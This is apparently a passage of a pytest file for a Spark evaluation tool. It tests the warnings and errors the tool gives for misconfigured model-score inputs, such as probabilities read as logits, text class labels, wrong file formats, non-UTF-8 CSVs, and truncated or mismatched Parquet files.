def test_probabilities_outside_0_1_say_what_the_column_holds(spark, demo_config, tmp_path, scores, hint):
    """Logits (or percentages) given as columns.prediction stopped the run with 'probability outside [0, 1]' and
    the rule only: the message now says what the column holds and the likely fix."""
    df = _rows()
    df["score"] = scores(df.pop("logit").to_numpy())
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=r"rows: probability outside \[0, 1\] .*" + hint):
        evaluate(spark, demo_config(columns={"logit": None, "prediction": "score"}), DS, write=False)


def test_probabilities_given_as_logits_get_a_warning(spark, demo_config, tmp_path):
    """Probabilities given as columns.logit are valid numbers, read as logits between 0 and 1 (every row a
    probability of 0.5 to 0.73): the job wrote meaningless metrics without a word. It now warns, from the
    histogram bins it already has; logits of a real model get no warning."""
    from ctcalc_spark.cli.cmd_evaluate import data_notes
    from ctcalc_spark.core.sanity import probability_like_logits

    df = _rows()
    write_eval(df.assign(logit=1 / (1 + np.exp(-df["logit"]))), tmp_path / "probs")
    cfg = demo_config(input__path=str(tmp_path / "probs"))
    notes = data_notes(evaluate(spark, cfg, DS, write=False), cfg)
    assert [n for n in notes if n.startswith("WARNING: all")] == [
        f"WARNING: all {N:,} values of the logit column 'logit' are between 0 and 1 (to the histogram's bin width, "
        "0.05), so every row was read as a probability between 0.5 and about 0.73. If they are probabilities, set "
        "columns.prediction: logit and columns.logit: null, and run again: the metrics just written are of the "
        "wrong scores."]
    write_eval(df, tmp_path / "eval")
    real = evaluate(spark, demo_config(), DS, write=False)
    assert not any(n.startswith("WARNING: all") for n in data_notes(real, demo_config()))
    assert not any("ranks the rows backwards" in n for n in data_notes(real, demo_config()))
    few = real.summaries.assign(bin=1, count=1).head(50)  # a handful of rows says nothing
    assert probability_like_logits(few, column="logit", bin_width=0.05) is None


def test_a_day_of_one_label_says_so_instead_of_a_hint_about_rows(demo_config):
    """A table whose labels had not been joined yet (every label 0) gave status bias_single_class_negative per
    group and a hint that the val-bias parts were too small (192 rows, 'about 1,858 rows give ±0.1'): no number of
    rows fits a bias to one class. The notes now say the labels are one class and what to check; the size hint
    counts only the groups with both labels. From the metrics and summaries an evaluate run returns, here built
    from the rows' histograms."""
    from types import SimpleNamespace

    from ctcalc_spark.cli.cmd_evaluate import data_notes
    from ctcalc_spark.core.finalize import metrics_from_summaries
    from ctcalc_spark.core.summary import BinarySummary

    rows = binary_eval_rows(n=N, models=("a", "b"), runs=(0, 1))
    rows = rows.assign(split=np.where(np.arange(len(rows)) % 10 == 0, "bias", "remain"))

    def notes(frame, **columns):
        summaries = pd.concat([pd.DataFrame(BinarySummary.from_logits(g["label"].to_numpy(float),
                                                                      g["logit"].to_numpy()).to_columns())
                               .assign(ds=DS, model=model, run=str(run), split=split)
                               for (model, run, split), g in frame.groupby(["model", "run", "split"])])
        metrics = metrics_from_summaries(summaries, "binary", keys=["ds", "model", "run"])
        result = SimpleNamespace(metrics=metrics, summaries=summaries, days=[DS], probability_like=None,
                                 class_confusion={}, label_class_clipped=None)
        return metrics, data_notes(result, demo_config(columns=columns))

    metrics, lines = notes(rows.assign(label=np.where(rows["model"] == "a", 0, rows["label"])))
    [line] = [n for n in lines if "one label on every row" in n]
    assert line.startswith("WARNING: 2 of the 4 groups (day x model x run) have one label on every row (2 hold only "
                           "0 in 'label')")
    [hint] = [n for n in lines if n.startswith("hint: val-bias parts")]
    both = metrics[metrics["model"] == "b"]
    assert hint.startswith(f"hint: val-bias parts had a median of {both['n_bias'].median():,.0f} rows")
    _, lines = notes(rows.assign(label=0))
    assert [n for n in lines if "one label on every row" in n][0].startswith("WARNING: All 4 groups")
    assert not [n for n in lines if n.startswith("hint: val-bias parts")]  # it gave one, about rows
    assert not [n for n in notes(rows)[1] if "one label" in n]


def test_multiclass_probabilities_given_as_logits_get_a_warning(spark, demo_config, tmp_path):
    """predict_proba's columns given as columns.class_logits (or a softmax output as the array column) are valid
    numbers: softmax flattened them and the job wrote a log loss of other scores (0.904 where the probabilities
    give 0.730, on a 3-class CSV) without a word. It now warns when every row's scores lie in [0, 1] and sum to
    1; a model's logits, and the same probabilities given as class_probabilities, get no warning."""
    from scipy.special import softmax

    from ctcalc_spark.cli.cmd_evaluate import data_notes
    from ctcalc_spark.core.sanity import probability_like_class_logits

    n, k = 600, 3
    y, z = multiclass_logits(n, k, seed=5, scale=1.5)
    p = softmax(z, axis=1).round(6)  # a CSV's rounding: rows sum to 1 within 1e-5
    base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n), "label": y})
    write_eval(base.assign(**{f"z{i}": z[:, i] for i in range(k)}, **{f"p{i}": p[:, i] for i in range(k)}),
               tmp_path / "wide")
    write_eval(base.assign(logit=list(p)), tmp_path / "array")
    split = {"bias_fraction": 0.2, "salt": "t"}

    def notes(path, **columns):
        cfg = demo_config(task="multiclass", split=split, columns=columns, input__path=str(tmp_path / path))
        return [n for n in data_notes(evaluate(spark, cfg, DS, write=False), cfg) if "look like probabilities" in n]

    assert notes("wide", class_logits=["p0", "p1", "p2"]) == [
        f"WARNING: all {n:,} rows have class scores (p0, p1, p2) between 0 and 1 that sum to 1: they look like "
        "probabilities, and were read as logits, so softmax flattened them and the log loss just written is of "
        "other scores. If they are probabilities, set columns.class_probabilities: [p0, p1, p2] and "
        "columns.class_logits: null, and run again."]
    [line] = notes("array")
    assert "(logit)" in line and "write ln p as the array instead" in line
    assert notes("wide", class_logits=["z0", "z1", "z2"]) == []
    assert notes("wide", class_probabilities=["p0", "p1", "p2"]) == []
    # one row that is not probability-like, or too few rows, says nothing
    assert probability_like_class_logits(n, n - 1, columns=["p0"]) is None
    assert probability_like_class_logits(50, 50, columns=["p0"]) is None


def test_multiclass_labels_given_as_class_names_and_scores_in_another_order(spark, demo_config, tmp_path):
    """scikit-learn's labels are names ('bird', 'cat', 'dog'): every row was invalid as 'text that is not a
    number', with no word on what to do. columns.class_names maps them to class indices (text as text, a number
    column's labels 1..K as numbers): the metrics equal those of the index labels exactly. The error for name
    labels now suggests class_names; a name not listed is an invalid label, named. Names (or scores) in another
    order than the data's gave a wrong log loss without a word: a warning now gives the order the rows show."""
    from scipy.special import softmax

    from ctcalc_spark.cli.cmd_evaluate import data_notes

    n, k = 3000, 3
    y, z = multiclass_logits(n, k, seed=8, scale=1.0, boost=2.0)
    p = softmax(z, axis=1)
    names = np.array(["cat", "dog", "bird"])  # the file's class order: p0 is cat's, p1 dog's, p2 bird's
    base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n),
                         **{f"p{i}": p[:, i] for i in range(k)}})
    write_eval(base.assign(label=y), tmp_path / "index")
    write_eval(base.assign(label=names[y]), tmp_path / "names")
    write_eval(base.assign(label=y + 1), tmp_path / "from1")
    odd = base.assign(label=names[y])
    odd.loc[:4, "label"] = "fish"
    write_eval(odd, tmp_path / "fish")
    probs = ["p0", "p1", "p2"]

    def run(path, **columns):
        cfg = demo_config(task="multiclass", split={"bias_fraction": 0.2, "salt": "t"},
                          input__path=str(tmp_path / path),
                          columns={"logit": None, "class_probabilities": probs, **columns})
        return cfg, evaluate(spark, cfg, DS, write=False)

    _, want = run("index")
    assert want.metrics.loc[0, "status"] == "ok"
    cfg, named = run("names", class_names=["cat", "dog", "bird"])
    pd.testing.assert_frame_equal(named.metrics, want.metrics)
    assert all("different orders" not in line for line in data_notes(named, cfg))
    pd.testing.assert_frame_equal(run("from1", class_names=[1, 2, 3])[1].metrics, want.metrics)
    assert all("different orders" not in line for line in data_notes(want, run("index")[0]))

    with pytest.raises(InputError, match=r"3000 rows: text that is not a number .* The label column 'label' holds "
                                         r"class names \(\['bird', 'cat', 'dog'\]\), not class indices: set "
                                         r"columns.class_names: \[bird, cat, dog\] with every class in the order "
                                         r"of the class scores"):
        run("names")
    with pytest.raises(InputError, match=r"5 rows: label not allowed for the task .* The label column 'label' holds "
                                         r"\['fish'\], not in columns.class_names \['cat', 'dog', 'bird'\]"):
        run("fish", class_names=["cat", "dog", "bird"])
    with pytest.raises(InputError, match=r"holds numbers \(Spark type bigint\) and 'columns.class_names' lists "
                                         r"'one', which is not one"):
        run("from1", class_names=["one", "two", "three"])
    with pytest.raises(ConfigError, match=r"'columns.class_names' lists 2 classes and 'columns.class_probabilities' 3"):
        run("names", class_names=["cat", "dog"])

    cfg, sorted_names = run("names", class_names=["bird", "cat", "dog"])  # sorted: not the file's order
    mapped = pd.Series(names[y]).map({"bird": 0, "cat": 1, "dog": 2}).to_numpy()  # the labels as these names read
    np.testing.assert_allclose(sorted_names.metrics.loc[0, "log_loss"], -np.log(p[np.arange(n), mapped]).mean(),
                               rtol=1e-12)  # 2.43 where the file's order gives 0.42: numpy on the same rows
    assert sorted_names.metrics.loc[0, "log_loss"] > want.metrics.loc[0, "log_loss"] + 2.0
    [line] = [line for line in data_notes(sorted_names, cfg) if "different orders" in line]
    assert line.startswith("WARNING: model 'm': the highest class score matches the label on ")
    assert line.endswith("If the score columns are those of ['cat', 'dog', 'bird'] in turn, set "
                         "columns.class_names: [cat, dog, bird].")
    for task, class_names, message in (
            ("multiclass", ["a", "a", "b"], "two or more distinct labels, in class order"),):
        with pytest.raises(ConfigError, match=re.escape(message)):
            config_from_dict({"task": task, "columns": {"class_names": class_names}})


def test_binary_labels_given_as_text_with_class_names(spark, demo_config, tmp_path):
    """Census-style labels '<=50K' / '>50K' (ctcalc train takes them with positive_label; evaluate said 'text that
    is not a number' and showed one value): the error now offers columns.class_names, quoted for YAML, and with
    it the metrics equal those of 0/1 labels exactly. The names given the wrong way round rank every row
    backwards, and the warning says how to turn them."""
    from ctcalc_spark.cli.cmd_evaluate import data_notes

    rows = _rows()
    rows.to_parquet(tmp_path / "numbers.parquet", index=False)
    text = rows.assign(label=np.where(rows["label"] == 1, ">50K", "<=50K"))
    text.to_parquet(tmp_path / "text.parquet", index=False)

    def run(path, **columns):
        cfg = demo_config(input={"path": str(tmp_path / path)}, columns=columns)
        return cfg, evaluate(spark, cfg, DS, write=False)

    want = run("numbers.parquet")[1].metrics
    pd.testing.assert_frame_equal(run("text.parquet", class_names=["<=50K", ">50K"])[1].metrics, want)
    with pytest.raises(InputError, match=re.escape(
            "The label column 'label' holds the text labels ['<=50K', '>50K'], not 0/1: set columns.class_names: "
            '["<=50K", ">50K"], the negative class first ([">50K", "<=50K"] if \'<=50K\' is the positive one).')):
        run("text.parquet")
    cfg, turned = run("text.parquet", class_names=[">50K", "<=50K"])
    np.testing.assert_allclose(turned.metrics["auc"], 1 - want["auc"], rtol=1e-12)
    [line] = [n for n in data_notes(turned, cfg) if "ranks the rows backwards" in n]
    assert ('or columns.class_names with the positive class first (it takes the negative one first: ["<=50K", '
            '">50K"] if the score is for \'>50K\') do that' in line)
    with pytest.raises(InputError, match=r"1 rows: label not allowed for the task .* The label column 'label' holds "
                                         r"\['unknown'\], not in columns.class_names \['<=50K', '>50K'\]"):
        text.loc[7, "label"] = "unknown"
        text.to_parquet(tmp_path / "text.parquet", index=False)
        run("text.parquet", class_names=["<=50K", ">50K"])
    for task, class_names, message in (("binary", ["a", "b", "c"], "a binary task lists two labels, the negative "
                                                                    "class first"),
                                       ("regression", ["a", "b"], "a regression label is a number")):
        with pytest.raises(ConfigError, match=re.escape(message)):
            config_from_dict({"task": task, "columns": {"class_names": class_names, "prediction": "p"}})


def test_multiclass_probabilities_as_percentages_or_logits_are_named(spark, demo_config, tmp_path):
    """class_probabilities outside [0, 1] stopped the job with the count only (the binary prediction column's
    error said what it holds); the multiclass error now does too: percentages, or logits."""
    rng = np.random.default_rng(2)
    n = 300
    z = rng.normal(0, 2, (n, 3))
    p = np.exp(z) / np.exp(z).sum(axis=1, keepdims=True)
    base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n), "label": rng.integers(0, 3, n)})
    write_eval(base.assign(**{f"p{i}": (100 * p[:, i]).round(2) for i in range(3)}), tmp_path / "pct")
    write_eval(base.assign(**{f"p{i}": z[:, i] for i in range(3)}), tmp_path / "logits")
    high, low = (100 * p).round(2).max(), z.min()

    def run(path):
        cfg = demo_config(task="multiclass", input__path=str(tmp_path / path),
                          columns={"logit": None, "class_probabilities": ["p0", "p1", "p2"]})
        return evaluate(spark, cfg, DS, write=False)

    with pytest.raises(InputError, match=re.escape(f"The class probability columns ['p0', 'p1', 'p2'] hold values "
                                                   f"up to {high:g}: if they are percentages, divide them by 100 "
                                                   "upstream.")):
        run("pct")
    with pytest.raises(InputError, match=re.escape(f"hold values from {low:g} to ") + r".* negative ones among them: "
                       + re.escape("logits (log-odds) look like that. If they are, set columns.class_logits: "
                                   "[p0, p1, p2] and columns.class_probabilities: null.")):
        run("logits")


def test_multiclass_probabilities_rounded_to_0_for_the_label_are_counted(spark, demo_config, tmp_path):
    """predict_proba written with 4 digits gives 0 for p < 5e-5: a row whose label's class is such a 0 costs
    ln(1/clip_eps) = 34.5. On a sharp 3-class model 261 of 12,000 rows made 40 % of the log loss, and the
    multiclass metrics have no n_clipped column: nothing said it. Now counted, with their share of the loss
    (reference: numpy on the same rows); full precision gives no warning."""
    from scipy.special import softmax

    from ctcalc_spark.cli.cmd_evaluate import data_notes

    n, k = 2000, 3
    y, z = multiclass_logits(n, k, seed=8, scale=4)
    p = softmax(z, axis=1)
    base = pd.DataFrame({"model": "m", "run": 0, "ds": DS, "example_id": np.arange(n), "label": y})
    cols = ["p0", "p1", "p2"]

    def warnings(probs, name):
        write_eval(base.assign(**{c: probs[:, i] for i, c in enumerate(cols)}), tmp_path / name)
        cfg = demo_config(task="multiclass", split={"bias_fraction": 0.2, "salt": "t"},
                          columns={"class_probabilities": cols}, input__path=str(tmp_path / name))
        return [w for w in data_notes(evaluate(spark, cfg, DS, write=False), cfg) if "clip_eps" in w]

    rounded = p.round(4)
    py = rounded[np.arange(n), y]
    loss = -np.log(np.maximum(py, 1e-15))
    zeros = int((py == 0).sum())
    assert zeros > 10
    [line] = warnings(rounded, "rounded")
    assert line.startswith(f"WARNING: {zeros:,} of {n:,} rows give their label's class a probability below clip_eps "
                           f"(1e-15), most likely 0 after rounding in the file; each such row costs ln(1/clip_eps) = "
                           f"34.5 in the log loss, and together they make {loss[py == 0].sum() / loss.sum():.0%} of it.")
    assert warnings(p, "full") == []


def test_scores_of_the_other_class_get_a_warning(spark, demo_config, tmp_path):
    """Logits of the other class (-z, or labels with 1 for the negative class) gave AUCs of 0.25 and metrics that
    looked merely bad, without a word; the calibrated metric cannot repair an order."""
    from ctcalc_spark.cli.cmd_evaluate import data_notes

    df = _rows()
    write_eval(df.assign(logit=-df["logit"]), tmp_path / "eval")
    cfg = demo_config()
    notes = data_notes(evaluate(spark, cfg, DS, write=False), cfg)
    line = next(n for n in notes if "backwards" in n)
    assert re.fullmatch(r"WARNING: every one of the 1 groups \(day x model x run\) ranks the rows backwards: AUC "
                        r"0\.\d{3} to 0\.\d{3}, below 0\.5\. A score of the other class \('logit' as 1 − p or "
                        r"−logit\) or labels with 1 for the negative class do that; .*", line), line


def test_a_column_without_numbers_is_rejected_before_the_scan(spark, demo_config, tmp_path):
    df = _rows().assign(label=pd.Timestamp("2026-01-01"))
    write_eval(df, tmp_path / "eval")
    with pytest.raises(InputError, match=r"Column 'label' \('columns.label'\) has Spark type timestamp"):
        evaluate(spark, demo_config(), DS, write=False)


@pytest.mark.parametrize("weight", [1e308, 1e148])  # sums that overflow; finite sums, a total weight of 4e150
def test_huge_weights_are_rejected_with_a_hint_to_rescale(spark, demo_config, tmp_path, weight):
    write_eval(_rows().assign(weight=weight), tmp_path / "eval")
    # used to end in "AssertionError: Metric 'weight' came out as inf ... a bug"
    with pytest.raises(InputError, match=r"too large.*rescale the weights"):
        evaluate(spark, demo_config(columns={"weight": "weight"}), DS, write=False)


@pytest.mark.parametrize("logit", [1e17, 1e300])
def test_huge_finite_logits_are_evaluated(spark, demo_config, tmp_path, logit):
    df = _rows()
    df.loc[:5, "logit"] = logit
    df.loc[6:9, "logit"] = -logit
    write_eval(df, tmp_path / "eval")
    m = evaluate(spark, demo_config(), DS, write=False).metrics
    assert m.loc[0, "status"] == "ok" and m.loc[0, "n_rows"] == N
    assert np.isfinite(m.loc[0, ["log_loss", "calibrated_log_loss", "auc"]].astype(float)).all()


def test_rows_without_a_date_are_counted_and_reported(spark, demo_config, tmp_path, capsys):
    from ctcalc_spark.cli.main import main

    df = _rows()
    df["ds"] = np.where(df.index < 6, None, DS)  # a date column in the rows, not a folder
    (tmp_path / "eval").mkdir()
    pq.write_table(pa.Table.from_pandas(df, preserve_index=False), tmp_path / "eval" / "rows.parquet")
    result = evaluate(spark, demo_config(), DS, write=False)
    assert result.metrics.loc[0, "n_rows"] == N - 6
    assert result.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]
    config = tmp_path / "c.yaml"
    config.write_text(f"input: {{path: {tmp_path / 'eval'}}}\noutput: {{path: {tmp_path / 'out'}}}\n"
                      "split: {salt: t}\n")
    assert main(["-q", "evaluate", "--config", str(config), "--ds", DS]) == 0
    assert f"6 rows in no metrics row (no date): {NO_DATE}" in capsys.readouterr().out


def test_malformed_json_records_are_invalid_rows(spark, demo_config, tmp_path):
    df = _rows()
    lines = df.to_json(orient="records", lines=True).splitlines()
    lines.insert(10, '{"model": "a", "run": 0, "ds": "2026-11-21", "label": 1, "logit": ')  # cut short
    (tmp_path / "eval").mkdir()
    (tmp_path / "eval" / "rows.json").write_text("\n".join(lines) + "\n")
    cfg = dict(input={"path": str(tmp_path / "eval"), "format": "json"})
    # used to become an all-null row that the ds filter dropped: n_rows 400, n_invalid 0, no word
    with pytest.raises(InputError, match=r"1 rows: malformed record \(the reader could not parse it\).* The "
                                         r"malformed records are in .*/eval/rows\.json \(1\)\.$"):
        evaluate(spark, demo_config(**cfg), DS, write=False)
    result = evaluate(spark, demo_config(on_invalid="drop", **cfg), DS, write=False)
    assert result.metrics.loc[0, "n_rows"] == N
    assert result.uncounted.to_dict("records") == [{"ds": None, "reason": ROW_REASONS[8][1], "n_rows": 1}]
    # a file that is no export of the table (a README among JSON exports): named, with the filter that leaves it out
    (tmp_path / "eval" / "rows.json").write_text("\n".join(lines[:10] + lines[11:]) + "\n")
    (tmp_path / "eval" / "more.json").write_text("\n".join(lines[:3]) + "\n")
    (tmp_path / "eval" / "README.txt").write_text("scores of job 17\nsee the wiki\n")
    with pytest.raises(InputError, match=r"2 rows: malformed record .* The malformed records are in .*/eval/"
                                         r"README\.txt \(2\)\. README\.txt is not named like the folder's other "
                                         r"files \(2 end in \.json\): .*\{pathGlobFilter: '\*\.json'\}"):
        evaluate(spark, demo_config(**cfg), DS, write=False)
    filtered = {"input": {**cfg["input"], "options": {"pathGlobFilter": "*.json"}}}
    assert evaluate(spark, demo_config(**filtered), DS, write=False).metrics.loc[0, "n_rows"] == N + 3


def test_duplicate_ids_are_counted_per_group_or_stop_the_run(spark, demo_config, tmp_path):
    df = _rows()
    again = df.iloc[:5].copy()
    again.loc[again.index[0], "label"] = 1 - again.loc[again.index[0], "label"]  # one id with both labels
    write_eval(pd.concat([df, again, df.iloc[:1]], ignore_index=True), tmp_path / "eval")
    assert evaluate(spark, demo_config(), DS, write=False).duplicates.empty  # off by default (a pass of its own)
    found = evaluate(spark, demo_config(input__duplicate_ids="count"), DS, write=False).duplicates
    assert found.to_dict("records") == [{"ds": DS, "model": "a", "run": "0", "n_duplicate_rows": 6,
                                         "n_repeated_ids": 5, "n_conflicting_ids": 1}]
    with pytest.raises(InputError, match=r"6 evaluation rows repeat an example id .* 1 with different labels"):
        evaluate(spark, demo_config(input__duplicate_ids="error"), DS, write=False)


def test_ragged_multiclass_logits_are_invalid_rows(spark, demo_config, tmp_path):
    from ctcalc_spark import calibrated_multiclass_log_loss
    from ctcalc_spark.core.split import bias_mask

    rng = np.random.default_rng(1)
    z = rng.normal(size=(N, 3))
    y = rng.integers(0, 3, N)
    logits = [list(r) for r in z]
    logits[7] = logits[7][:2]  # a row that lost a class: used as if the problem had two classes
    df = pd.DataFrame({"model": "a", "run": 0, "ds": DS, "example_id": np.arange(N), "label": y, "logit": logits})
    write_eval(df, tmp_path / "eval")
    cfg = dict(task="multiclass", split={"bias_fraction": 0.2, "salt": "t"})
    with pytest.raises(InputError, match="1 rows: logit array length differs"):
        evaluate(spark, demo_config(**cfg), DS, write=False)
    m = evaluate(spark, demo_config(on_invalid="drop", **cfg), DS, write=False).metrics
    keep = np.arange(N) != 7
    isb = bias_mask(np.arange(N), salt="t", bias_fraction=0.2) & keep
    rem = ~bias_mask(np.arange(N), salt="t", bias_fraction=0.2) & keep
    assert (m.loc[0, "n_invalid"], m.loc[0, "n_rows"]) == (1, N - 1)
    assert m.loc[0, "calibrated_log_loss"] == pytest.approx(
        calibrated_multiclass_log_loss(y[isb], z[isb], y[rem], z[rem]), rel=1e-9)


def test_column_names_with_a_dot_or_a_backtick(spark, demo_config, tmp_path):
    df = _rows(weights=True, slices=True).rename(columns={"country": "geo.country", "weight": "w`x"})
    write_eval(df, tmp_path / "eval")
    cfg = demo_config(columns={"slices": ["geo.country"], "weight": "w`x"})
    result = evaluate(spark, cfg, DS)
    m = result.metrics
    assert set(m["slice_name"]) == {"__all__", "geo.country"} and (m["status"] == "ok").all()
    assert m.loc[m["slice_name"] == "__all__", "weight"].iloc[0] == pytest.approx(df["w`x"].sum())
    assert "geo.country" in OutputStore(cfg).read("summaries").columns


# ---- files --------------------------------------------------------------------------------------------------

def _corrupt_day(tmp_path, kind):
    df = _rows()
    first, second = df.iloc[: N // 2], df.iloc[N // 2:]
    if kind == "types":  # the same column as double in one file, bigint in the other
        second = second.assign(label=second["label"].astype(float))
    folder = _write_files(tmp_path / "eval", [first, second])
    if kind == "truncated":
        data = (folder / "f1.parquet").read_bytes()
        (folder / "f1.parquet").write_bytes(data[: len(data) // 2])
    return str(folder / "f1.parquet")


def test_a_file_of_another_type_than_input_format_is_named_from_its_first_bytes(spark, demo_config, tmp_path):
    """A Feather file read as CSV gave "lacks column(s) [...]; present columns: ['ARROW1\\x00…']. Rename them in
    the data"; a CSV read as JSON said a pretty-printed document needs multiLine; a CSV without a name ending
    (part-00000) read as Parquet said only 'Could not read footer'; a gzip file not named .gz was read as
    bytes. Each now says what the file is and what to do, from its first 512 bytes (on these error paths only)."""
    import gzip

    rows = _rows()
    cases = {"scores.feather": (rows.to_feather, "csv", r"scores\.feather is an Arrow IPC \(Feather\) file, which "
                                r"Spark does not read: write the table as Parquet \(pandas: pd\.read_feather\(path\)"
                                r"\.to_parquet\('scores\.parquet'\)\) and read that\.$"),
             "scores.csv": (lambda p: rows.to_csv(p, index=False), "json",
                            r"scores\.csv is a text file: set input\.format: csv\.$"),
             "scores.jsonl": (lambda p: rows.to_json(p, orient="records", lines=True), "csv",
                              r"scores\.jsonl is a text file that looks like JSON: set input\.format: json\.$"),
             "scores.parquet": (lambda p: rows.to_parquet(p, index=False), "csv",
                                r"scores\.parquet is a Parquet file: set input\.format: parquet\.$"),
             "export.csv": (lambda p: Path(p).write_bytes(gzip.compress(rows.to_csv(index=False).encode())), "csv",
                            r"export\.csv is gz-compressed, but its name does not end in \.gz: Spark decompresses by "
                            r"the name: rename it to end in \.gz \(e\.g\. export\.csv\.gz\)\.$")}
    for name, (write, fmt, message) in cases.items():
        folder = tmp_path / name.replace(".", "_")
        folder.mkdir()
        write(str(folder / name))
        with pytest.raises(InputError, match=r"^Cannot read the evaluation table '.*' as input\.format " + fmt +
                                             r": " + message):
            evaluate(spark, demo_config(input={"path": str(folder / name), "format": fmt}), DS, write=False)
    folder = tmp_path / "spark_out"  # Spark's own CSV output: part files without a name ending
    folder.mkdir()
    rows.to_csv(folder / "part-00000", index=False)
    with pytest.raises(InputError, match=r"^Cannot read file .*/part-00000 of the evaluation table: .* part-00000 is a "
                                         r"text file: set input\.format: csv\. Fix or remove the file"):
        evaluate(spark, demo_config(input={"path": str(folder)}), DS, write=False)
    # the same rows read with the right setting: no error
    got = evaluate(spark, demo_config(input={"path": str(folder), "format": "csv"}), DS, write=False).metrics
    assert got.loc[0, "n_rows"] == len(rows)
    # a file named as the format says is corrupt, not of another type: no 'set input.format: csv' for its text
    (folder / "part-00000").unlink()
    rows.to_parquet(folder / "a.parquet", index=False)
    (folder / "b.parquet").write_text("not parquet\n" * 100)
    with pytest.raises(InputError) as e:
        evaluate(spark, demo_config(input={"path": str(folder)}), DS, write=False)
    assert "b.parquet of the evaluation table" in str(e.value) and "input.format" not in str(e.value)


def test_text_that_is_not_utf8_stops_the_run_before_a_write(spark, demo_config, tmp_path):
    """A CSV exported by Excel on Windows (cp1252) with slices 'Köln', 'Kèln': Spark read it as UTF-8 and wrote
    slices 'K\ufffdln' (one slice for both cities) without a word. Now it stops before a write and names the
    values and the encoding option; with ISO-8859-1 the cities are read as written; an encoding Spark 4 allows
    only with its legacy setting is told so."""
    rows = _rows().assign(city=np.resize(["Köln", "Kèln", "Zürich"], N), model="modèle")
    (tmp_path / "eval").mkdir()
    (tmp_path / "eval" / "x.csv").write_bytes(rows.to_csv(index=False).encode("cp1252"))
    cfg = {"input": {"path": str(tmp_path / "eval"), "format": "csv"}, "output": {"path": str(tmp_path / "out")},
           "columns": {"slices": ["city"]}}
    with pytest.raises(InputError, match=re.escape(
            "Text in the evaluation rows is not UTF-8, the encoding Spark reads CSV with: 'model': ['mod\ufffdle']; "
            "'city': ['K\ufffdln', 'Z\ufffdrich'] ('\ufffd' stands for bytes it could not read, so values that differ "
            "there would count as one). Set input.options: {encoding: 'ISO-8859-1'} for Western European files")):
        evaluate(spark, demo_config(**cfg), DS)
    assert not (tmp_path / "out").exists()
    latin = {**cfg, "input": {**cfg["input"], "options": {"encoding": "ISO-8859-1"}}}
    got = evaluate(spark, demo_config(**latin), DS, write=False).metrics
    assert set(got["slice_value"]) == {"__all__", "Köln", "Kèln", "Zürich"} and set(got["model"]) == {"modèle"}
    cp1252 = {**cfg, "input": {**cfg["input"], "options": {"encoding": "windows-1252"}}}
    # Spark's words (the encodings it allows, 'but got windows-1252') are not asserted; our hint is
    with pytest.raises(InputError, match=r"windows-1252 \(its € and curly quotes\), Shift_JIS, GBK and the other "
                                         r"encodings Java knows, also set spark\.conf: "
                                         r"\{spark\.sql\.legacy\.javaCharsets: 'true'\}\.$"):
        evaluate(spark, demo_config(**cp1252), DS, write=False)


def test_file_kinds_from_their_first_bytes(tmp_path):
    import pickle
    import sqlite3
    import zipfile

    from ctcalc_spark.filekind import kind_hint, sniff

    with zipfile.ZipFile(tmp_path / "book.xlsx", "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    with zipfile.ZipFile(tmp_path / "scores.zip", "w") as z:
        z.writestr("scores.csv", "a,b\n1,2\n")
    (tmp_path / "rows.pkl").write_bytes(pickle.dumps({"a": [1, 2]}, protocol=4))
    sqlite3.connect(tmp_path / "db.sqlite").execute("create table t (a int)").connection.commit()
    (tmp_path / "blob.bin").write_bytes(bytes(range(256)))
    (tmp_path / "utf8.csv").write_bytes(b"model," * 85 + b"a" + "é\n".encode())  # é's bytes at 511 and 512
    assert sniff(str(tmp_path / "book.xlsx")).what == "an Excel workbook (.xlsx), which Spark does not read"
    assert "save the sheet as CSV" in kind_hint(str(tmp_path / "book.xlsx"), "csv")
    assert kind_hint(str(tmp_path / "scores.zip"), "csv") == (
        " scores.zip is a zip archive, which Spark does not read: unzip it and read the files inside.")
    assert "pd.read_pickle(path)" in kind_hint(str(tmp_path / "rows.pkl"), "csv")
    assert sniff(str(tmp_path / "db.sqlite")).what == "an SQLite database, which Spark does not read"
    assert sniff(str(tmp_path / "blob.bin")) is None and sniff(str(tmp_path / "missing")) is None
    assert kind_hint(str(tmp_path / "utf8.csv"), "csv") == ""  # a multi-byte character cut at byte 512 is text


def test_an_input_format_that_is_not_the_files_or_not_installed_is_named(spark, demo_config, tmp_path):
    """A folder of CSV exports read with input.format parquet names the format the file's name says; input.format
    delta on a folder without a Delta log says it is no Delta table; avro without its package names the package."""
    from ctcalc_spark.spark.input_hints import missing_source_hint

    (tmp_path / "eval").mkdir()
    _rows().to_csv(tmp_path / "eval" / "export.csv", index=False)
    with pytest.raises(InputError, match=r"Cannot read file .*/export\.csv of the evaluation table: .* export\.csv is "
                                         r"a text file: set input\.format: csv\."):
        evaluate(spark, demo_config(), DS, write=False)
    with pytest.raises(InputError, match=r"input\.format is delta, but '.*/eval' is not a Delta table \(it has no "
                                         r"_delta_log/\): set input\.format to the format of its files"):
        evaluate(spark, demo_config(input__format="delta"), DS, write=False)
    import pyspark

    avro = missing_source_hint(Exception("[DATA_SOURCE_NOT_FOUND] Failed to find data source: avro."), "avro")
    assert f"'org.apache.spark:spark-avro_2.13:{pyspark.__version__}'" in avro
    assert missing_source_hint(Exception("Path does not exist"), "delta") == ""
    assert missing_source_hint(Exception("ClassNotFoundException: x"), "parquet") == ""


@pytest.mark.parametrize(("kind", "cause"), [
    ("truncated", "is not a Parquet file"),
    ("types", "Data type mismatches when reading Parquet column [label]"),
])
def test_unreadable_files_name_the_file_or_are_skipped_and_listed(spark, demo_config, tmp_path, kind, cause):
    bad = _corrupt_day(tmp_path, kind)
    with pytest.raises(InputError) as err:
        evaluate(spark, demo_config(), DS, write=False)
    text = str(err.value)
    assert text.startswith(f"Cannot read file {bad} of the evaluation table: ") and cause in text
    assert "input.skip_unreadable_files: true" in text and "\n" not in text and "at org.apache" not in text
    result = evaluate(spark, demo_config(input__skip_unreadable_files=True), DS, write=False)
    assert result.skipped_files == [bad]
    assert result.metrics.loc[0, "n_rows"] == N // 2
    assert os.path.exists(bad)


@pytest.mark.slow
def test_a_scan_result_larger_than_the_driver_accepts_is_one_line_naming_the_slice(tmp_path):
